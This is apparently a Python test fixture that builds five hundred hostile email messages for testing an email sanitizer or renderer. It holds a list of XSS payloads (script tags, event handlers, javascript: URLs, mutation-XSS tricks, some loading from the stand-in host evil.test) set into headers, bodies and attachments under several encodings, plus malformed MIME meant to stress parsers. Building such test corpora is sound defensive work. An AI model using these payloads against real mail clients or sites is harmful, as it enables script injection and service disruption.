"""Five hundred hostile letters made by rules: every way of running something, in every place of a letter it may stand.

Each rule makes a letter's bytes; ``corpus`` is the product of payloads, places and wrappings, cut to five hundred.
"""

import base64
import itertools
import random
from collections.abc import Iterator

MARK = "Zimorodok"
#: What would run: it says so in the page's own title, so a browser notices.
DEED = "top.document.title='ran';window.name='ran';alert(1)"
PAYLOADS = (
    f"<script>{DEED}</script>",
    f"<ScRiPt src=//evil.test/x.js>{DEED}</sCrIpT>",
    f'<img src=x onerror="{DEED}">',
    f'<svg onload="{DEED}"><script>{DEED}</script></svg>',
    f'<body onload="{DEED}"><p>{MARK}</p></body>',
    f'<iframe src="javascript:{DEED}"></iframe>',
    f'<iframe srcdoc="<script>{DEED}</script>"></iframe>',
    f'<a href="javascript:{DEED}">{MARK}</a>',
    f'<a href="&#106;avascript&colon;{DEED}">{MARK}</a>',
    f'<a href=" \tjava\nscript:{DEED}">{MARK}</a>',
    "<object data='data:text/html;base64,"
    + base64.b64encode(f"<script>{DEED}</script>".encode()).decode()
    + "'></object>",
    f"<embed src='javascript:{DEED}'>",
    f'<form action="javascript:{DEED}"><input autofocus onfocus="{DEED}"><button>{MARK}</button></form>',
    "<style>@import 'http://evil.test/x.css'; body { background: url(http://evil.test/y) }</style>",
    '<div style="background:url(http://evil.test/z);position:fixed;inset:0;width:expression(alert(1))">x</div>',
    '<meta http-equiv="refresh" content="0;url=http://evil.test/"><base href="http://evil.test/">',
    '<link rel="stylesheet" href="http://evil.test/x.css">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={DEED}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={DEED}>">',
    f'<template><script>{DEED}</script></template><details open ontoggle="{DEED}">x</details>',
    f'<video><source onerror="{DEED}"></video><audio src=x onerror="{DEED}">',
    '<img src="http://evil.test/open.gif" width=1 height=1><img srcset="http://evil.test/a 2x">',
    f"<marquee onstart='{DEED}'>x</marquee><input type=image src=x onerror='{DEED}'>",
    f"<!--><script>{DEED}</script>--><![CDATA[<script>{DEED}</script>]]>",
    "<div>" * 3000 + f"<b onclick='{DEED}'>{MARK}",
    f"<p>{MARK}</p>\x00<scr\x00ipt>{DEED}</scr\x00ipt>",
)
PLACES = ("html", "subject", "name", "file", "text", "cid", "svg", "nested")
WRAPS = ("plain", "base64", "quoted", "koi8", "utf7", "odd")


def corpus(most: int = 500) -> Iterator[bytes]:
    """Yield the letters, the same ones every time."""
    rows = list(itertools.product(PAYLOADS, PLACES, WRAPS))
    random.Random(8058).shuffle(rows)
    broken = list(_broken())
    yield from broken
    for place, row in enumerate(rows[: most - len(broken)]):
        yield letter(place, *row)


def letter(place: int, payload: str, where: str, wrap: str) -> bytes:
    """Return one letter with a payload somewhere in it."""
    bare = " ".join(payload.split())[:900]
    head = [
        f"Message-ID: <{place}@evil.test>",
        f"From: {_word(bare) if where == 'name' else 'Ivan'} <evil{place}@client.test>",
        f"Subject: {_word(bare) if where == 'subject' else MARK}",
        "Date: Wed, 18 Nov 2026 10:00:00 +0300",
        "MIME-Version: 1.0",
    ]
    if where in {"html", "cid"}:
        return _joined(head, _part("text/html", payload, wrap))
    if where == "text":
        return _joined(head, _part("text/plain", payload, wrap))
    if where == "nested":
        inner = _joined(head, _part("text/html", payload, wrap)).decode("utf-8", "surrogateescape")
        return _joined(head, _part("message/rfc822", inner, "plain"))
    name = bare[:150].replace('"', "'") if where == "file" else "x.svg"
    kind = "image/svg+xml" if where == "svg" else "text/html"
    files = [*_part(kind, payload, wrap), f'Content-Disposition: attachment; filename="{name}"']
    return _joined(head, _mixed(_part("text/html", f"<p>{MARK}</p>", "plain"), files))


def _part(kind: str, body: str, wrap: str) -> list[str]:
    """Return a part's headers and, after an empty line, its body."""
    raw = body.encode("utf-8", "surrogateescape")
    if wrap == "base64":
        return [
            f"Content-Type: {kind}; charset=utf-8",
            "Content-Transfer-Encoding: base64",
            "",
            base64.encodebytes(raw).decode(),
        ]
    if wrap == "quoted":
        quoted = "".join(f"={each:02X}" for each in raw[:5000])
        return [f"Content-Type: {kind}; charset=utf-8", "Content-Transfer-Encoding: quoted-printable", "", quoted]
    charset = {"koi8": "koi8-r", "utf7": "utf-7", "odd": "x-nothing\x01"}.get(wrap, "utf-8")
    return [f"Content-Type: {kind}; charset={charset}", "", body]


def _mixed(*parts: list[str]) -> list[str]:
    lines = ['Content-Type: multipart/mixed; boundary="edge"', ""]
    for part in parts:
        end = part.index("") if "" in part else len(part)
        told = [line for line in part[end + 1 :] if line.startswith("Content-Disposition")]
        body = [line for line in part[end + 1 :] if line not in told]
        lines += ["--edge", *told, *part[:end], "", *body]
    return [*lines, "--edge--"]


def _word(words: str) -> str:
    return f"=?utf-8?B?{base64.b64encode(words.encode()).decode()}?="


def _joined(head: list[str], body: list[str]) -> bytes:
    return "\r\n".join([*head, *body]).encode("utf-8", "surrogateescape")


def _broken() -> Iterator[bytes]:
    """Yield letters that are broken rather than cunning."""
    yield b""
    yield b"\x00" * 1000
    yield b"\r\n" * 1000
    yield b"From: " + b"a" * 100_000 + b"\r\n\r\nx"
    yield b"Subject: =?utf-8?B?" + b"=" * 5000 + b"?=\r\n\r\nx"
    yield b"Subject: =?idna?Q?" + b"xn--" * 2000 + b"?=\r\n\r\nx"
    yield b"Date: Wed, 99 Nov 99999 99:99:99 +9999999\r\nFrom: x@y.test\r\n\r\nx"
    yield b"Message-ID: " + b"<" * 5000 + b"\r\nReferences: " + b"<a@b> " * 5000 + b"\r\n\r\nx"
    yield b"Content-Type: multipart/mixed; boundary=a\r\n\r\n" + b"--a\r\n\r\nx\r\n" * 3000
    yield b"".join(b'Content-Type: multipart/mixed; boundary="%d"\r\n\r\n--%d\r\n' % (n, n) for n in range(400)) + b"x"
    yield b"Content-Type: message/rfc822\r\n\r\n" * 500 + b"x"
    yield (
        b"Content-Type: multipart/report; report-type=delivery-status; boundary=a\r\n\r\n--a\r\nContent-Type: message/delivery-status\r\n\r\nFinal-Recipient: "
        + b";" * 9000
        + b"\r\n--a--"
    )
    yield b"Content-Type: text/plain; " + b"".join(b"name*%d*=utf-8''%%FF; " % n for n in range(500)) + b"\r\n\r\nx"
    yield b"Content-Type: text/html; charset=utf-8\r\n\r\n" + b"<" * 200_000
    yield b"Content-Type: text/html\r\n\r\n" + b"&#x110000;&#xD800;\xff\xfe" * 1000
    yield b"From: =?utf-16?B?2AA=?= <x@y.test>\r\nSubject: \xed\xa0\x80\x00\r\n\r\n\xed\xa0\x80\x00"
